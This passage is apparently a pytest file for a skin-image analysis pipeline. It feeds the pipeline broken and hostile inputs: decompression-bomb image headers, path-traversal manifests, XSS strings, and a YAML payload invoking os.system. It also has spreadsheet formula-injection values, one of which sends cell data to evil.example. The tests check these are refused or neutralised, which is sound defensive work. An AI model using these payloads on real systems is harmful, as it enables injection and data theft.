"""The bad-input corpus (issue 9): every file a clinic folder may hold, generated here, never committed.

Each case gets correct handling or exactly one clear ``errors.csv`` row; the batch always completes and
every good image is measured. The main corpus goes through ONE ``analyze_folder`` run (module fixture);
cases that must stop a run before any work (manifest paths leading out of the input folder) get their own
small runs.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import struct
import time
import tracemalloc
import zlib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import tifffile
from PIL import Image

import pipelines.outputs.export as export
from pipelines import analyze_folder
from pipelines.io.decode import ImageDecodeError, ImageTooLargeError, load_image, read_header
from pipelines.io.metadata import MetadataError

FAST = {"backend": "serial", "register": False, "px_per_mm": 20}
DECLARED_SIDE = 100_000  # a 10-gigapixel header: 30 GB of RGB if anything tried to allocate it


# ---------------------------------------------------------------------------------------------
# Generators


def skin(seed: int, shape=(96, 128), tone=(0.80, 0.62, 0.52)) -> np.ndarray:
    """Uniform light skin with a little sensor noise, uint8 RGB."""
    rng = np.random.default_rng(seed)
    rgb = np.ones((*shape, 3)) * np.array(tone) + rng.normal(0, 0.01, (*shape, 3))
    return (np.clip(rgb, 0, 1) * 255).round().astype(np.uint8)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def bomb_png(width: int = DECLARED_SIDE, height: int = DECLARED_SIDE) -> bytes:
    """A valid PNG header declaring ``width`` x ``height`` RGB pixels, followed by 64 bytes of data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def bomb_tiff(width: int = DECLARED_SIDE, height: int = DECLARED_SIDE) -> bytes:
    """A little-endian baseline TIFF whose single strip declares ``width`` x ``height`` grey pixels."""
    n_tags = 9
    data_offset = 8 + 2 + 12 * n_tags + 4
    entries = [  # (tag, type 3=SHORT 4=LONG, value)
        (256, 4, width),
        (257, 4, height),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, data_offset),
        (277, 3, 1),
        (278, 4, height),
        (279, 4, (width * height) & 0xFFFFFFFF),
    ]
    ifd = struct.pack("<H", n_tags)
    for tag, kind, value in entries:
        packed = struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, 1) + packed
    return b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0) + b"\x00" * 16


def jpeg_bytes(rgb: np.ndarray, **save) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(rgb).save(buf, format="JPEG", quality=95, **save)
    return buf.getvalue()


def png_bytes(image: Image.Image) -> bytes:
    buf = io.BytesIO()
    image.save(buf, format="PNG")
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# The corpus: file name -> (bytes, manifest row overrides), expected outcome documented per case.

HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
HOSTILE_REGION = "+cheek"
HOSTILE_TREATMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_TREATMENT = "-2+3+cmd|' /C calc'!A0"
SCRIPT_SUBJECT = "<script>alert('xss')</script>"
SCRIPT_TREATMENT = '"><img src=x onerror=alert(1)>'
UNICODE_NAME = "Zoë Ω 1_s0_cheek.jpg"
JAPANESE_NAME = "患者 テスト_s0_頬.png"
FORMULA_NAME = "=1+2 -x@y_s0.png"

#: Files that cannot be measured: expected stage, error type, and words the message must contain.
EXPECTED_ERRORS = {
    "empty.jpg": ("decode", "ImageDecodeError", ("empty", "0 bytes")),
    "notes.png": ("decode", "ImageDecodeError", ("not a recognised image",)),
    "truncated.png": ("decode", "ImageDecodeError", ("truncated",)),
    "truncated.jpg": ("decode", "ImageDecodeError", ("truncated",)),
    "report.pdf.jpg": ("decode", "ImageDecodeError", ("PDF", "not an image")),
    "letter.docx.png": ("decode", "ImageDecodeError", ("ZIP", "not an image")),
    "bomb.png": ("decode", "ImageTooLargeError", ("100000 x 100000", "exceeds the limit")),
    "bomb.tif": ("decode", "ImageTooLargeError", ("100000 x 100000", "exceeds the limit")),
}


def build_corpus(folder: Path) -> dict[str, dict[str, str]]:
    """Write every corpus file and return the manifest rows (file -> columns)."""
    folder.mkdir(parents=True, exist_ok=True)
    good = skin(0)
    rows: dict[str, dict[str, str]] = {}

    def add(name: str, data: bytes, **columns: str) -> None:
        (folder / name).write_bytes(data)
        rows[name] = {"subject": "P01", "session": "0", "region": "cheek", **columns}

    # Not images at all, or broken ones.
    add("empty.jpg", b"")
    add("notes.png", b"These are my notes, not a picture.\n" * 4)
    add("truncated.png", png_bytes(Image.fromarray(good))[:300])
    add("truncated.jpg", jpeg_bytes(good)[:400])
    add("report.pdf.jpg", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n")
    add("letter.docx.png", b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40)  # a Word file renamed
    add("bomb.png", bomb_png())
    add("bomb.tif", bomb_tiff())
    # (The 1-pixel photo has its own test below: it is pinned as a known bug.)

    # Decodable variants of a good photo, all measured. 16-bit grey photos have no skin hue; the skin
    # mask then skips its colour rule (documented in texture.roi.skin_mask) and measures the whole frame.
    grey16 = np.linspace(20000, 40000, 96 * 128).reshape(96, 128).astype(np.uint16)
    add("grey16.png", png_bytes(Image.fromarray(grey16)))
    tif = io.BytesIO()
    tifffile.imwrite(tif, grey16)
    add("grey16.tif", tif.getvalue())
    # A 16-bit microscope z-stack: the first plane is the image (and the only page decoded).
    stack = io.BytesIO()
    tifffile.imwrite(stack, np.stack([grey16, grey16 // 2, grey16 // 3] * 10))
    add("stack16.tif", stack.getvalue())
    # Decodable variants of a good photo, all measured.
    add("cmyk.jpg", _cmyk_jpeg(skin(1)))
    rgba = np.dstack([skin(2), np.full(skin(2).shape[:2], 128, np.uint8)])
    add("rgba.png", png_bytes(Image.fromarray(rgba, mode="RGBA")))
    exif = Image.Exif()
    exif[0x0112] = 6  # stored sideways; upright it is 128 wide x 96 high
    exif.get_ifd(0x8769)[0x9003] = "0000:00:00 00:00:00"  # a camera whose clock was never set
    add("rotated.jpg", jpeg_bytes(skin(3, shape=(128, 96)), exif=exif.tobytes()), treatment=MINUS_TREATMENT)
    heic = io.BytesIO()
    Image.fromarray(skin(4)).save(heic, format="HEIF", quality=95)
    add("phone.heic", heic.getvalue())
    # Unicode and space-laden names.
    add(UNICODE_NAME, jpeg_bytes(skin(5)), subject="Zoë Ω", region="cheek")
    add(JAPANESE_NAME, png_bytes(Image.fromarray(skin(6))), subject="患者", region="頬")

    # Longitudinal cases.
    for name, seed, session, tone in (
        ("dup_s0.png", 10, "0", (0.80, 0.62, 0.52)),
        ("dup_s1_a.png", 11, "1", (0.76, 0.58, 0.48)),
        ("dup_s1_b.png", 12, "1", (0.72, 0.54, 0.44)),
    ):  # repeat captures of P03 at session 1: averaged in changes
        add(
            name,
            png_bytes(Image.fromarray(skin(seed, tone=tone))),
            subject="P03",
            session=session,
            region="cheek",
        )
    for name, seed, session in (("late_s2.png", 20, "2"), ("late_s3.png", 21, "3")):
        # P04 has no session 0: its earliest session is the baseline
        add(name, png_bytes(Image.fromarray(skin(seed))), subject="P04", session=session, region="cheek")
    for name, seed, session, scale in (("scale_s0.png", 30, "0", "20"), ("scale_s1.png", 31, "1", "40")):
        # P05 photographed at two different scales: comparable only with a warning
        add(
            name,
            png_bytes(Image.fromarray(skin(seed))),
            subject="P05",
            session=session,
            region="cheek",
            px_per_mm=scale,
        )

    # Hostile metadata: formulas (markup is tested on the report's own small run below).
    add(
        FORMULA_NAME,
        png_bytes(Image.fromarray(skin(40))),
        subject=HOSTILE_SUBJECT,
        region=HOSTILE_REGION,
        treatment=HOSTILE_TREATMENT,
    )
    return rows


def _cmyk_jpeg(rgb: np.ndarray) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(rgb).convert("CMYK").save(buf, format="JPEG", quality=95)
    return buf.getvalue()


def write_manifest(folder: Path, rows: dict[str, dict[str, str]]) -> Path:
    columns = ["file", "subject", "session", "region", "modality", "stain", "px_per_mm", "treatment"]
    path = folder / "manifest.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=columns)
        writer.writeheader()
        for name, row in rows.items():
            writer.writerow({"file": name, **row})
    return path


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    folder = tmp_path_factory.mktemp("corpus") / "clinic folder Ω"
    rows = build_corpus(folder)
    write_manifest(folder, rows)
    out = folder.parent / "out"
    result = analyze_folder(folder, out_dir=out, max_pixels=50_000_000, **FAST)
    return folder, out, rows, result


# ---------------------------------------------------------------------------------------------
# The single corpus run


def test_the_batch_completes_and_every_good_image_is_measured(corpus):
    folder, out, rows, result = corpus
    failed = set(EXPECTED_ERRORS)
    measured = set(result.metrics["file"])
    assert measured == set(rows) - failed
    assert result.exit_status == 2
    for name in ("metrics.csv", "metrics.parquet", "changes.csv", "cohort.csv", "errors.csv", "run.json"):
        assert (out / name).is_file(), name
    assert not list(out.rglob("*.tmp"))
    # Every measured photo has its colour numbers (nothing silently NaN).
    photos = result.metrics[result.metrics["modality"] == "photo"]
    assert photos[["ita_deg", "melanin_index", "erythema_index"]].notna().all().all()


def test_each_bad_file_has_exactly_one_clear_error_row(corpus):
    _, out, _, result = corpus
    errors = result.errors[result.errors["stage"] != "warning"]
    assert sorted(errors["file"]) == sorted(EXPECTED_ERRORS)  # one row each, nothing else
    for _, row in errors.iterrows():
        stage, error_type, words = EXPECTED_ERRORS[row["file"]]
        assert (row["stage"], row["error_type"]) == (stage, error_type), row.to_dict()
        assert len(row["message"]) > 10
        for word in words:
            assert word.lower() in row["message"].lower(), row.to_dict()
    on_disk = pd.read_csv(out / "errors.csv", keep_default_na=False)
    assert len(on_disk[on_disk["stage"] != "warning"]) == len(EXPECTED_ERRORS)


def test_decoded_variants_have_the_right_geometry(corpus):
    _, _, _, result = corpus
    m = result.metrics.set_index("file")
    for name in ("cmyk.jpg", "rgba.png", "phone.heic", UNICODE_NAME, JAPANESE_NAME):
        assert (m.loc[name, "width_px"], m.loc[name, "height_px"]) == (128, 96), name
    # EXIF orientation 6: the sideways-stored 96 x 128 JPEG is measured upright, 128 wide.
    assert (m.loc["rotated.jpg", "width_px"], m.loc["rotated.jpg", "height_px"]) == (128, 96)
    assert m.loc["rotated.jpg", "date"] == ""  # the zero EXIF date is no date, not "0000-00-00"
    # CMYK conversion keeps the skin tone: ITA of the same skin as the RGB-PNG twins (skin(1) vs skin(2)).
    assert m.loc["cmyk.jpg", "ita_deg"] == pytest.approx(m.loc["rgba.png", "ita_deg"], abs=3.0)
    for name in ("grey16.png", "grey16.tif", "stack16.tif"):
        assert (m.loc[name, "width_px"], m.loc[name, "height_px"]) == (128, 96), name
    # All three 16-bit files hold the same grey ramp (the stack in its first plane): the same numbers
    # whatever the container.
    assert m.loc["grey16.png", "ita_deg"] == pytest.approx(m.loc["grey16.tif", "ita_deg"])
    assert m.loc["stack16.tif", "ita_deg"] == pytest.approx(m.loc["grey16.tif", "ita_deg"])


def test_unicode_and_spaces_survive_to_every_output(corpus):
    _, out, _, result = corpus
    text = (out / "metrics.csv").read_text(encoding="utf-8")
    for name in (UNICODE_NAME, JAPANESE_NAME):
        assert name in text
    assert "Zoë Ω" in text and "患者" in text
    parquet = pd.read_parquet(out / "metrics.parquet")
    assert {UNICODE_NAME, JAPANESE_NAME} <= set(parquet["file"])


def test_repeat_captures_are_averaged_in_changes(corpus):
    _, _, _, result = corpus
    m = result.metrics.set_index("file")
    rows = result.changes.query("subject == 'P03' and metric == 'ita_deg'").set_index("session")
    repeat_mean = (m.loc["dup_s1_a.png", "ita_deg"] + m.loc["dup_s1_b.png", "ita_deg"]) / 2
    assert rows.loc[1, "value"] == pytest.approx(repeat_mean)
    assert rows.loc[1, "delta"] == pytest.approx(repeat_mean - m.loc["dup_s0.png", "ita_deg"])
    assert len(rows) == 2  # one row per session, not per image


def test_follow_up_without_session_0_uses_the_earliest_as_baseline(corpus):
    _, _, _, result = corpus
    m = result.metrics.set_index("file")
    rows = result.changes.query("subject == 'P04' and metric == 'ita_deg'").set_index("session")
    assert sorted(rows.index) == [2, 3]
    assert rows.loc[2, "delta"] == 0
    assert rows.loc[3, "baseline_value"] == pytest.approx(m.loc["late_s2.png", "ita_deg"])
    assert rows.loc[3, "delta"] == pytest.approx(
        m.loc["late_s3.png", "ita_deg"] - m.loc["late_s2.png", "ita_deg"]
    )


def test_mismatched_scales_within_a_subject_give_a_warning(corpus):
    _, _, _, result = corpus
    warnings = result.errors[result.errors["stage"] == "warning"]
    p05 = warnings[warnings["file"].isin(["scale_s0.png", "scale_s1.png"])]
    assert len(p05) == 1, p05
    row = p05.iloc[0]
    assert row["file"] == "scale_s1.png" and row["error_type"] == "ScaleMismatch"
    assert "40" in row["message"] and "20" in row["message"]
    # Both images are still measured; the warning does not count as a failure.
    assert {"scale_s0.png", "scale_s1.png"} <= set(result.metrics["file"])


def test_formula_cells_are_neutralised_in_csv_and_exact_in_parquet(corpus):
    _, out, _, _ = corpus
    with open(out / "metrics.csv", encoding="utf-8", newline="") as fh:
        table = list(csv.DictReader(fh))
    row = next(r for r in table if r["file"].lstrip("'") == FORMULA_NAME)
    assert row["file"] == "'" + FORMULA_NAME
    assert row["subject"] == "'" + HOSTILE_SUBJECT
    assert row["region"] == "'" + HOSTILE_REGION
    assert row["treatment"] == "'" + HOSTILE_TREATMENT
    rotated = next(r for r in table if r["file"] == "rotated.jpg")
    assert rotated["treatment"] == "'" + MINUS_TREATMENT
    # Negative numbers stay numbers (they are not formulas).
    assert all(not r["ita_deg"].startswith("'") for r in table)
    # No cell in any CSV output starts with a formula character.
    for name in ("metrics.csv", "changes.csv", "cohort.csv", "errors.csv"):
        with open(out / name, encoding="utf-8", newline="") as fh:
            for cells in csv.reader(fh):
                for cell in cells:
                    if cell[:1] in ("=", "+", "@", "\t", "\r"):
                        pytest.fail(f"{name}: formula-like cell {cell!r}")
                    if cell.startswith("-"):
                        float(cell)  # only negative numbers may start with '-'
    exact = pd.read_parquet(out / "metrics.parquet").set_index("file")
    assert exact.loc[FORMULA_NAME, "subject"] == HOSTILE_SUBJECT
    assert exact.loc[FORMULA_NAME, "region"] == HOSTILE_REGION
    assert exact.loc[FORMULA_NAME, "treatment"] == HOSTILE_TREATMENT
    assert exact.loc["rotated.jpg", "treatment"] == MINUS_TREATMENT


def test_markup_in_metadata_is_escaped_in_the_report(tmp_path):
    # A small run of its own: building the report of the whole corpus costs ~20 s of plotting.
    folder = tmp_path / "in"
    rows = {}
    folder.mkdir()
    for session in (0, 1):
        name = f"script_s{session}.png"
        Image.fromarray(skin(50 + session)).save(folder / name)
        rows[name] = {
            "subject": SCRIPT_SUBJECT,
            "session": str(session),
            "region": "<b>cheek</b>",
            "treatment": SCRIPT_TREATMENT,
        }
    hostile_name = "<svg onload=alert(2)>.jpg"  # an empty file: shown in the report's error table
    (folder / hostile_name).write_bytes(b"")
    rows[hostile_name] = {"subject": "P09", "session": "0"}
    write_manifest(folder, rows)
    out = tmp_path / "out"
    analyze_folder(folder, out_dir=out, **FAST)
    try:
        from pipelines.outputs.report import build_report

        page = build_report(out).read_text(encoding="utf-8")
    except Exception as exc:  # the report is another engineer's module, maybe unfinished
        pytest.skip(f"pipelines.outputs.report.build_report is not usable here: {type(exc).__name__}: {exc}")
    assert "&lt;script&gt;alert(" in page  # the subject is shown, escaped
    assert "<script>alert" not in page and "<b>cheek</b>" not in page
    assert "<img src=x" not in page
    assert "&lt;svg onload=alert(2)&gt;" in page and "<svg onload" not in page


def test_outputs_hold_no_absolute_paths(corpus):
    folder, out, _, _ = corpus
    for path in out.rglob("*"):
        if path.suffix in (".csv", ".json", ".html"):
            text = path.read_text(encoding="utf-8")
            assert str(folder) not in text and str(folder.parent) not in text, path.name


# ---------------------------------------------------------------------------------------------
# Decompression bombs are refused from the header, without allocating


def bomb_jpeg(width: int = 60_000, height: int = 60_000) -> bytes:
    """A baseline JPEG whose frame header (SOF0) declares ``width`` x ``height`` grey pixels."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    sos = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + sof + sos + b"\x00" * 32 + b"\xff\xd9"


def bomb_bmp(width: int = DECLARED_SIDE, height: int = DECLARED_SIDE) -> bytes:
    """A 24-bit BMP whose BITMAPINFOHEADER declares ``width`` x ``height`` pixels."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + 40 + 16, 0, 0, 54) + info + b"\x00" * 16


def test_one_pixel_photo_is_one_clear_value_error_row(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    Image.fromarray(skin(0)[:1, :1]).save(folder / "P01_s0_cheek.png")
    Image.fromarray(skin(1)).save(folder / "P02_s0_cheek.png")
    result = analyze_folder(folder, **FAST)
    assert list(result.metrics["file"]) == ["P02_s0_cheek.png"]
    row = result.errors.iloc[0]
    assert (row["file"], row["stage"], row["error_type"]) == ("P01_s0_cheek.png", "measure", "ValueError")
    assert "pixel" in row["message"] and "OpenCV" not in row["message"]


@pytest.mark.parametrize(
    "maker,suffix,side",
    [
        (bomb_png, ".png", DECLARED_SIDE),
        (bomb_tiff, ".tif", DECLARED_SIDE),
        (bomb_jpeg, ".jpg", 60_000),
        (bomb_bmp, ".bmp", DECLARED_SIDE),
    ],
)
def test_bomb_is_refused_from_the_header_without_allocating(tmp_path, maker, suffix, side):
    path = tmp_path / f"bomb{suffix}"
    path.write_bytes(maker())
    assert read_header(path) == (side, side)
    tracemalloc.start()
    try:
        with pytest.raises(ImageTooLargeError, match="exceeds the limit"):
            load_image(path)  # the default limit, 250 megapixels
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 50 * 2**20


def test_tiff_stack_decodes_only_its_first_plane(tmp_path):
    """300 compressed planes of 200 x 200: a small file whose first series is 24 MB of uint16 (and a
    grey (Z, Y, X) stack once came out as a Z x Y image). Only the first page is decoded."""
    planes = np.zeros((300, 200, 200), np.uint16)
    planes[0] = np.random.default_rng(0).integers(0, 65535, (200, 200), dtype=np.uint16)
    tifffile.imwrite(tmp_path / "stack.tif", planes, compression="zlib")
    assert (tmp_path / "stack.tif").stat().st_size < 2 * 2**20
    tracemalloc.start()
    try:
        loaded = load_image(tmp_path / "stack.tif", max_pixels=200 * 200)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert loaded.rgb.shape == (200, 200, 3) and loaded.source_bit_depth == 16
    np.testing.assert_allclose(loaded.rgb[..., 0], planes[0] / 65535, atol=1e-6)
    assert peak < 8 * 2**20  # one plane as float32 RGB is 0.5 MB; the whole stack would be 24 MB


def test_bad_files_raise_decode_errors_directly(tmp_path):
    (tmp_path / "empty.png").write_bytes(b"")
    (tmp_path / "text.tif").write_bytes(b"II*\x00 not really a tiff")
    for name in ("empty.png", "text.tif"):
        with pytest.raises(ImageDecodeError):
            load_image(tmp_path / name)


# ---------------------------------------------------------------------------------------------
# Manifests naming files outside the input folder stop the run before any work


@pytest.fixture
def inside(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    Image.fromarray(skin(0)).save(folder / "P01_s0_cheek.png")
    Image.fromarray(skin(1)).save(tmp_path / "outside.png")
    return folder


def _refused(folder: Path, file_cell: str, tmp_path: Path, monkeypatch) -> str:
    calls = []
    import pipelines.batch

    monkeypatch.setattr(pipelines.batch, "analyze_item", lambda *a, **k: calls.append(a))
    (folder / "manifest.csv").write_text(
        f"file,subject,session\nP01_s0_cheek.png,P01,0\n{file_cell},P01,1\n", encoding="utf-8"
    )
    out = tmp_path / "out"
    with pytest.raises(MetadataError) as info:
        analyze_folder(folder, out_dir=out, **FAST)
    assert not calls, "an image was analysed before the manifest was validated"
    assert not out.exists(), "something was written before the manifest was validated"
    message = str(info.value)
    assert "manifest.csv" in message and "row 3" in message and "'file'" in message
    assert "outside the input folder" in message
    return message


def test_manifest_parent_path_is_refused(inside, tmp_path, monkeypatch):
    _refused(inside, "../outside.png", tmp_path, monkeypatch)


def test_manifest_absolute_path_is_refused(inside, tmp_path, monkeypatch):
    _refused(inside, str(tmp_path / "outside.png"), tmp_path, monkeypatch)


def test_manifest_symlink_leading_out_is_refused(inside, tmp_path, monkeypatch):
    os.symlink(tmp_path / "outside.png", inside / "link.png")
    _refused(inside, "link.png", tmp_path, monkeypatch)


def test_symlink_out_found_by_folder_scan_is_refused(inside, tmp_path):
    """Without a manifest, a symlink in the folder pointing outside stops the run too, naming the link
    (but not where it leads: messages must not spread absolute paths)."""
    os.symlink(tmp_path / "outside.png", inside / "P09_s0_cheek.png")
    out = tmp_path / "out"
    with pytest.raises(MetadataError, match="'P09_s0_cheek.png' is a symlink leading outside") as info:
        analyze_folder(inside, out_dir=out, **FAST)
    assert "outside.png" not in str(info.value)
    assert not out.exists()
    # A symlink to a file inside the folder is fine.
    (inside / "P09_s0_cheek.png").unlink()
    os.symlink(inside / "P01_s0_cheek.png", inside / "P09_s0_cheek.png")
    assert set(analyze_folder(inside, **FAST).metrics["file"]) == {"P01_s0_cheek.png", "P09_s0_cheek.png"}


@pytest.mark.parametrize(
    "rows,column,words",
    [
        ("P01_s0_cheek.png,P01,0,../outside.png\n", "'roi'", "outside the input folder"),
        ("P01_s0_cheek.png,P01,0,missing_mask.png\n", "'roi'", "does not exist"),
        ("P01_s0_cheek.png,P01,0,,surplus\n", None, "more values than the header"),
        ("P01_s0_cheek.png,P\x001,0,\n", "'subject'", "control characters"),
        ("P01_s0_cheek.png,P01,-1,\n", "'session'", "whole number >= 0"),
        ("P01_s0_cheek.png,P01,nan,\n", "'session'", "whole number"),
    ],
    ids=["roi-outside", "roi-missing", "surplus-value", "nul-byte", "negative-session", "nan-session"],
)
def test_hostile_manifest_rows_are_refused_before_any_work(inside, tmp_path, rows, column, words):
    (inside / "manifest.csv").write_text("file,subject,session,roi\n" + rows, encoding="utf-8")
    out = tmp_path / "out"
    with pytest.raises(MetadataError) as info:
        analyze_folder(inside, out_dir=out, **FAST)
    message = str(info.value)
    assert "manifest.csv" in message and "row 2" in message and words in message
    if column:
        assert f"column {column}" in message
    assert not out.exists()


@pytest.mark.parametrize(
    "line,key",
    [
        ("time_limit_s: .inf", "time_limit_s"),
        ("time_limit_s: 1e300", "time_limit_s"),  # YAML reads this as text
        ("time_limit_s: abc", "time_limit_s"),
        ("max_pixels: yes", "max_pixels"),
        ("overlays: 'no'", "overlays"),
        ("px_per_mm: -3", "px_per_mm"),
        ("max_pixel: 100", "unknown key"),
        ("histology:\n  fibre: false", "histology.fibre"),
        ("histology:\n  threshold: abc", "histology.threshold"),
        ("!!python/object/apply:os.system ['touch pwned']", "not valid YAML"),
    ],
)
def test_hostile_config_values_are_refused_naming_file_and_key(inside, tmp_path, line, key):
    config = tmp_path / "skintex.yaml"
    config.write_text(line + "\n", encoding="utf-8")
    out = tmp_path / "out"
    with pytest.raises(MetadataError) as info:
        analyze_folder(inside, out_dir=out, config=config)
    assert str(config) in str(info.value) and key in str(info.value)
    assert not out.exists() and not (tmp_path / "pwned").exists()


def test_a_typo_in_photo_options_is_refused_before_any_work(inside, tmp_path):
    config = tmp_path / "skintex.yaml"
    config.write_text("photo:\n  pore: {min_contrast: 3}\n", encoding="utf-8")
    with pytest.raises(MetadataError, match="photo"):
        analyze_folder(inside, out_dir=tmp_path / "out", config=config)


def test_unicode_file_names_without_a_manifest(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    Image.fromarray(skin(0)).save(folder / UNICODE_NAME)
    Image.fromarray(skin(1)).save(folder / "P01_s0_cheek.png")
    # What sync tools and file managers leave behind is not analysed: macOS AppleDouble copies,
    # thumbnail caches and trash folders (hidden), with no error rows either.
    (folder / "._P01_s0_cheek.png").write_bytes(b"\x00\x05\x16\x07 AppleDouble resource fork")
    (folder / ".thumbnails").mkdir()
    Image.fromarray(skin(2)).save(folder / ".thumbnails" / "P07_s0_cheek.jpg")
    result = analyze_folder(folder, **FAST)
    assert set(result.metrics["file"]) == {UNICODE_NAME, "P01_s0_cheek.png"}
    assert set(result.errors["file"]) == {UNICODE_NAME}
    # The default pattern's subject is ASCII; a name it does not match is its own subject's baseline,
    # and a warning row says so.
    notes = result.errors[(result.errors["file"] == UNICODE_NAME) & (result.errors["stage"] == "warning")]
    assert len(notes) == 1 and "does not match the pattern" in notes.iloc[0]["message"]
    assert result.exit_status == 0


def test_names_that_are_not_utf8_are_escaped_not_fatal(tmp_path):
    """A Latin-1 disk: a folder and a file whose names are not UTF-8 (Python sees lone surrogates,
    which no UTF-8 writer accepts). The run completes; names are shown with \\xNN escapes."""
    folder = Path(os.fsdecode(os.fsencode(tmp_path) + b"/Zo\xeb"))
    folder.mkdir()
    Image.fromarray(skin(0)).save(folder / "P01_s0_cheek.png")
    Image.fromarray(skin(1)).save(Path(os.fsdecode(os.fsencode(folder) + b"/P02_s0_cheek\xe9.png")))
    out = tmp_path / "out"
    result = analyze_folder(folder, out_dir=out, **FAST)
    assert sorted(result.metrics["file"]) == ["P01_s0_cheek.png", "P02_s0_cheek\\xe9.png"]
    notes = result.errors[result.errors["stage"] == "warning"]["message"]
    assert notes.str.contains("not valid UTF-8").any()
    for name in ("metrics.csv", "errors.csv", "run.json", "metrics.parquet"):
        assert (out / name).is_file(), name
    assert "P02_s0_cheek\\xe9.png" in (out / "metrics.csv").read_text(encoding="utf-8")


def test_cli_exit_status_with_a_bad_file_and_a_refused_manifest(inside, tmp_path):
    from typer.testing import CliRunner

    from pipelines.cli import app

    runner = CliRunner()
    (inside / "P02_s0_cheek.jpg").write_bytes(b"")  # one bad file: the run finishes with status 2
    out = tmp_path / "cli-out"
    args = ["analyze", str(inside), "-o", str(out), "--backend", "serial", "--no-report"]
    result = runner.invoke(app, [*args, "--config", str(_fast_config(tmp_path))])
    assert result.exit_code == 2, result.output
    errors = pd.read_csv(out / "errors.csv")
    assert list(errors["file"]) == ["P02_s0_cheek.jpg"]
    escape = tmp_path / "escape"
    escape.mkdir()
    Image.fromarray(skin(0)).save(escape / "a.png")
    (escape / "manifest.csv").write_text("file\n../outside.png\n", encoding="utf-8")
    refused = runner.invoke(app, ["analyze", str(escape), "-o", str(tmp_path / "never"), "--no-report"])
    assert refused.exit_code == 1  # usage error: nothing written
    assert "outside the input folder" in " ".join(refused.output.split())
    assert not (tmp_path / "never").exists()


def _fast_config(tmp_path: Path) -> Path:
    config = tmp_path / "fast.yaml"
    config.write_text("register: false\npx_per_mm: 20\n", encoding="utf-8")
    return config


# ---------------------------------------------------------------------------------------------
# Limits: time, memory


def _run_with_a_hanging_first_image(folder: Path, monkeypatch) -> tuple[object, float]:
    import pipelines.assays.photo

    Image.fromarray(skin(2)).save(folder / "P02_s0_cheek.png")
    real = pipelines.assays.photo.analyze_photo
    calls = {"n": 0}

    def slow(rgb, **kwargs):
        calls["n"] += 1
        if calls["n"] == 1:  # the first image (sorted by file: P01) hangs
            time.sleep(30)
        return real(rgb, **kwargs)

    monkeypatch.setattr(pipelines.assays.photo, "analyze_photo", slow)
    started = time.monotonic()
    result = analyze_folder(folder, time_limit_s=2.0, **FAST)
    return result, time.monotonic() - started


def test_per_image_time_limit_stops_a_hanging_image(inside, monkeypatch):
    result, seconds = _run_with_a_hanging_first_image(inside, monkeypatch)
    assert seconds < 20  # the sleeping image was interrupted, not waited for
    rows = result.errors[result.errors["stage"] != "warning"]
    assert len(rows) == 1
    row = rows.iloc[0]
    assert (row["file"], row["stage"], row["error_type"]) == ("P01_s0_cheek.png", "measure", "TimeoutError")
    assert "time limit of 2 s" in row["message"]
    assert list(result.metrics["file"]) == ["P02_s0_cheek.png"]  # the batch went on


def test_time_limit_row_is_a_timeout_error(inside, monkeypatch):
    # One task straight through run_task (the function every backend runs): cheaper than a folder run.
    import pipelines.assays.photo
    from pipelines.batch import Task, run_task
    from pipelines.config import Settings
    from pipelines.io.metadata import ImageItem

    monkeypatch.setattr(pipelines.assays.photo, "analyze_photo", lambda rgb, **kw: time.sleep(30))
    item = ImageItem(path=inside / "P01_s0_cheek.png", file="P01_s0_cheek.png", subject="P01", session=0)
    settings = Settings(time_limit_s=0.5, backend="serial", register=False, color_correction="none")
    row = run_task(Task(item=item, input_root=inside), settings)
    assert "time limit" in row.message
    assert row.error_type == "TimeoutError"


def test_out_of_memory_gives_a_clear_row(inside, monkeypatch):
    import pipelines.analyze

    def no_memory(*args, **kwargs):
        raise MemoryError()

    monkeypatch.setattr(pipelines.analyze, "load_image", no_memory)
    result = analyze_folder(inside, **FAST)
    row = result.errors.iloc[0]
    assert (row["stage"], row["error_type"]) == ("decode", "MemoryError")
    assert "out of memory" in row["message"]
    assert result.exit_status == 2


# ---------------------------------------------------------------------------------------------
# Interrupted writes leave the old complete file


def test_crash_during_a_write_keeps_the_old_file_and_leaves_no_tmp(inside, tmp_path, monkeypatch):
    out = tmp_path / "out"
    analyze_folder(inside, out_dir=out, **FAST)
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    assert "metrics.csv" in before

    Image.fromarray(skin(3)).save(inside / "P03_s0_cheek.png")  # the new run would change the tables

    class Killed(BaseException):  # like SIGINT / SystemExit: not an ordinary error
        pass

    real_atomic_write = export.atomic_write

